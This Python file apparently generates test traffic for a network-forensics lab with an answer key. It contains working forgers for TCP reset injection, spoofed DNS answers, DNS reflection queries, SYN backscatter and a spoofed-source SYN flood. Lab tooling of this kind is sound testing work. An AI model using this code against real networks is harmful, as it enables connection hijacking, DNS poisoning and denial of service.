#!/usr/bin/env python3
"""labtools.py: the lab's forging tools (standard library only), run inside a
network namespace by mklab.py. Real software does everything else. Every
forged packet carries an IP ID the generator chose, so that the answer key
can name it without looking at any output of panne.

  labtools.py inject-rst IFACE SERVER PORT TTL AFTER_BYTES MAX_FLOWS IPID
  labtools.py inject-dns IFACE RESOLVER FORGED IPID SUFFIX...
  labtools.py spoof-queries VICTIM RESOLVER NAME COUNT PPS IPID
  labtools.py spoof-syns VICTIM SERVER PORTS COUNT PPS IPID  (PORTS: 443,81)
  labtools.py synflood DST PORT COUNT PPS IPID
"""
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "netns"))
import tools  # noqa: E402  the scenario captures' own packet builders


def inject_rst(iface, server, port, ttl, after_bytes, max_flows, ipid, duration=40):
    """On the path: once a server->client stream carried after_bytes, sends
    the client one reset spoofed from the server (TTL and IP ID given)."""
    rx, tx = tools.sniffer(iface), tools.raw_sender()
    tools.ready(os.environ.get("READY"))
    end = time.time() + duration
    seen, done = {}, set()
    while time.time() < end and len(done) < max_flows:
        try:
            frame, meta = rx.recvfrom(65535)
        except socket.timeout:
            continue
        if meta[2] != socket.PACKET_OUTGOING:  # forwarded toward the client
            continue
        p = tools.ipv4_of(frame)
        if not p or p[0][9] != 6:
            continue
        ip, ihl = p
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        tcp = ip[ihl:]
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        plen = len(ip) - ihl - (tcp[12] >> 4) * 4
        key = (dst, dport)
        if src != server or sport != port or plen <= 0 or key in done:
            continue
        seen[key] = seen.get(key, 0) + plen
        if seen[key] >= after_bytes:
            # The end of the burst in flight: what is still queued for us.
            nxt = (seq + plen) & 0xffffffff
            rx.settimeout(0.02)
            while True:
                try:
                    frame, meta = rx.recvfrom(65535)
                except socket.timeout:
                    break
                q = tools.ipv4_of(frame)
                if meta[2] != socket.PACKET_OUTGOING or not q or q[0][9] != 6:
                    continue
                ip2, ihl2 = q
                t2 = ip2[ihl2:]
                if socket.inet_ntoa(ip2[12:16]) == src and struct.unpack("!HH", t2[:4]) == (sport, dport):
                    end2 = (struct.unpack("!I", t2[4:8])[0] + len(ip2) - ihl2 - (t2[12] >> 4) * 4) & 0xffffffff
                    if (end2 - nxt) & 0x80000000 == 0:
                        nxt = end2
            rx.settimeout(0.5)
            # Several resets stepping through the window, as injectors do:
            # the first lands on the sequence number the client expects.
            for k in range(4):
                seg = tools.tcp4(src, dst, sport, dport, (nxt + k * 1448) & 0xffffffff, 0, 0x04)
                tx.sendto(tools.ip4(src, dst, 6, seg, ttl=ttl, ipid=ipid), (dst, 0))
            done.add(key)
    print("inject-rst: reset %d flows" % len(done))


def inject_dns(iface, resolver, forged, ipid, suffixes, limit=8, duration=40):
    """On the path: answers A queries to the resolver for names under the
    suffixes with a forged record spoofed from the resolver, ahead of it."""
    rx, tx = tools.sniffer(iface), tools.raw_sender()
    tools.ready(os.environ.get("READY"))
    end = time.time() + duration
    n = 0
    while time.time() < end and n < limit:
        try:
            frame, meta = rx.recvfrom(65535)
        except socket.timeout:
            continue
        if meta[2] == socket.PACKET_OUTGOING:
            continue
        p = tools.ipv4_of(frame)
        if not p or p[0][9] != 17:
            continue
        ip, ihl = p
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        udp = ip[ihl:]
        sport, dport = struct.unpack("!HH", udp[:4])
        dns = udp[8:]
        if dst != resolver or dport != 53 or len(dns) < 17 or dns[2] & 0x80:
            continue
        qname, qend, qtype = tools.qname_read(dns)
        if not any(qname == s or qname.endswith("." + s) for s in suffixes):
            continue
        flags = 0x8180 | (dns[2] & 1) << 8
        an = 1 if qtype == 1 else 0
        ans = struct.pack("!HHHHHH", struct.unpack("!H", dns[:2])[0], flags, 1, an, 0, 0) + dns[12:qend]
        if an:
            ans += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(forged)
        tx.sendto(tools.ip4(dst, src, 17, tools.udp4(dst, src, 53, sport, ans), ttl=64, ipid=ipid), (src, 0))
        n += 1
    print("inject-dns: forged %d answers" % n)


def spoof_queries(victim, resolver, name, count, pps, ipid):
    """Queries for a large record, spoofed from the victim: the resolver's
    real answers then go to a host that never asked (a reflection)."""
    tx = tools.raw_sender()
    edns = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)
    for i in range(count):
        q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 1) + tools.qname_wire(name)
        q += struct.pack("!HH", 16, 1) + edns
        sport = random.randrange(1024, 65535)
        tx.sendto(tools.ip4(victim, resolver, 17, tools.udp4(victim, resolver, sport, 53, q), ipid=ipid),
                  (resolver, 0))
        time.sleep(1.0 / pps)
    print("spoof-queries: %d sent" % count)


def spoof_syns(victim, server, ports, count, pps, ipid):
    """SYNs spoofed from the victim: the server's SYN-ACKs and resets reach
    a host that never sent a SYN (backscatter)."""
    tx = tools.raw_sender()
    mss = struct.pack("!BBH", 2, 4, 1460)
    for i in range(count):
        port = ports[i % len(ports)]
        seg = tools.tcp4(victim, server, random.randrange(20000, 60000), port, random.randrange(1 << 32), 0,
                         0x02, 64240, mss)
        tx.sendto(tools.ip4(victim, server, 6, seg, ipid=ipid), (server, 0))
        time.sleep(1.0 / pps)
    print("spoof-syns: %d sent" % count)


def synflood(dst, port, count, pps, ipid):
    """count SYNs from random spoofed, public-looking sources, at pps."""
    tx = tools.raw_sender()
    gap = 1.0 / pps
    start = time.time()
    mss = struct.pack("!BBH", 2, 4, 1460)
    for i in range(count):
        src = tools.spoofed_source()
        seg = tools.tcp4(src, dst, random.randrange(1024, 65535), port, random.randrange(1 << 32), 0, 0x02,
                         64240, mss)
        tx.sendto(tools.ip4(src, dst, 6, seg, ttl=64, ipid=ipid), (dst, 0))
        delay = start + (i + 1) * gap - time.time()
        if delay > 0:
            time.sleep(delay)
    print("synflood: %d SYNs sent" % count)


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    cmd, a = argv[1], argv[2:]
    if cmd == "inject-rst":
        inject_rst(a[0], a[1], int(a[2]), int(a[3]), int(a[4]), int(a[5]), int(a[6]))
    elif cmd == "inject-dns":
        inject_dns(a[0], a[1], a[2], int(a[3]), a[4:])
    elif cmd == "spoof-queries":
        spoof_queries(a[0], a[1], a[2], int(a[3]), float(a[4]), int(a[5]))
    elif cmd == "spoof-syns":
        spoof_syns(a[0], a[1], [int(p) for p in a[2].split(",")], int(a[3]), float(a[4]), int(a[5]))
    elif cmd == "synflood":
        synflood(a[0], int(a[1]), int(a[2]), float(a[3]), int(a[4]))
    else:
        sys.exit("labtools.py: unknown command " + cmd)


if __name__ == "__main__":
    main(sys.argv)
